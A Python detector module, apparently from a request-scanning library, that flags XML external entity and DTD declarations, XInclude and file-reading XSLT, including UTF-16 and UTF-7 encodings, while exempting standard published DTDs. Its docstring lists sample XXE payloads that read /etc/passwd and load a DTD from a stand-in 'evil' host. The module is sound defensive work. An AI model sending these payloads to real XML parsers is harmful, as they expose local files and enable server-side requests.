"""XML external entities (CWE-611): a document type declaration that defines or loads entities.

What it catches
    ``<!DOCTYPE`` with an internal subset or an external identifier (``[``, ``SYSTEM``,
    ``PUBLIC``), ``<!ENTITY`` declarations (general and parameter entities ``%name;``),
    ``<!ELEMENT``/``<!ATTLIST`` declarations, XInclude (``<xi:include``,
    ``xmlns:xi="http://www.w3.org/2001/XInclude"``), and XSLT documents that read files
    (``document(``, ``unparsed-text(``).

Why
    An XML parser that resolves entities reads local files and makes requests for whoever
    wrote the DTD, and nested entities exhaust memory (billion laughs). Data sent to an API
    has no reason to carry a DTD.

    Also in UTF-16 read as bytes (a NUL after every character) and in UTF-7 (``+ADw-!DOCTYPE``).
    A document type that only names a published standard (``<!DOCTYPE html PUBLIC
    "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/..."``, an Apple property list) is
    left alone: HTML e-mails carry one.

Examples
    ``<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>``,
    ``<!ENTITY % dtd SYSTEM "http://evil/x.dtd"> %dtd;``, ``<xi:include href="/etc/passwd"/>``.

References
    CWE-611, CWE-776; OWASP XXE Prevention Cheat Sheet; PayloadsAllTheThings "XXE Injection".
"""

from __future__ import annotations

import re

from ..model import Match
from ._normalize import Views, any_in, hit, views

ID = "xxe"
CWE = "CWE-611"

_PATTERN = re.compile(
    r"<!doctype\s+[\w:.-]+\s?(?:\[|system\b|public\b)"
    r"|<!(?:entity|element|attlist|notation)\s"
    r"|<xi:include\b|xmlns:xi\s?=|\bxinclude\b"
    r"|<xsl:(?:stylesheet|value-of|copy-of|include|import)\b[^>]{0,256}(?:document|unparsed-text|system-property)\s?\("
    r"|\bunparsed-text\s?\(|<!\[cdata\[[^\]]{0,256}<!entity"
    # UTF-7 ("+ADw-" is "<"), which a parser honours from the XML declaration
    r"|\+adw-\s?!\s?(?:doctype|entity)\b"
)
# A document type that only names a published standard DTD: a public identifier alone, or
# with the standard's URL on its publisher's host (XHTML and HTML 4 e-mails, Apple property
# lists, Spring and Hibernate configurations), or HTML5's ``about:legacy-compat``. With no
# internal subset and no URL an attacker controls, it declares nothing and loads nothing
# from an attacker.
_STANDARD_HOSTS = (
    r"(?:www\.)?(?:w3\.org|apple\.com|(?:docs\.)?oasis-open\.org|java\.sun\.com|(?:[\w-]+\.)?apache\.org"
    r"|hibernate\.org|hibernate\.sourceforge\.net|springframework\.org|mybatis\.org|ietf\.org"
    r"|xmlns\.jcp\.org|jboss\.org)"
)
_STANDARD_DOCTYPE = re.compile(
    r"<!doctype\s+[\w:.-]+\s+(?:public\s+\"-//[^\"]{1,160}\""
    rf"(?:\s+\"https?://{_STANDARD_HOSTS}/[^\"\s<>]{{0,256}}\")?"
    r"|system\s+[\"']about:legacy-compat[\"'])\s?>"
)
MAX_DOCTYPES = 16
# Marks every shape above needs (substring tests in C); text without any is skipped.
NEEDLES = ("<!", "<xi:", "xinclude", "unparsed", "<xsl:", "+adw-", "<\x00!")
_ANGLE_NEEDLES = tuple(n for n in NEEDLES if n.startswith("<"))
_OTHER_NEEDLES = tuple(n for n in NEEDLES if not n.startswith("<"))


def detect_views(v: Views) -> Match | None:
    low = v.low
    # any_in(low, NEEDLES), with one character search for the needles that start with "<"
    if not (("<" in low and any_in(low, _ANGLE_NEEDLES)) or any_in(low, _OTHER_NEEDLES)):
        return None
    if "\x00" in low and "<\x00!" in low:
        # UTF-16 read as single bytes: a NUL between every two characters
        m = _PATTERN.search(low.replace("\x00", ""))
        if m:
            return hit(v, 0, min(len(v.raw), 16), "XML entity or DTD declaration in UTF-16")
    m = _PATTERN.search(low)
    for _ in range(MAX_DOCTYPES):
        if m is None or not (
            m.group().startswith("<!doctype") and _STANDARD_DOCTYPE.match(low, m.start())
        ):
            break
        m = _PATTERN.search(low, m.end())
    if m:
        return hit(v, m.start(), m.end(), "XML entity or DTD declaration")
    return None


def detect(text: str) -> Match | None:
    """The first XML external entity shape in ``text``, or None."""
    return detect_views(views(text))
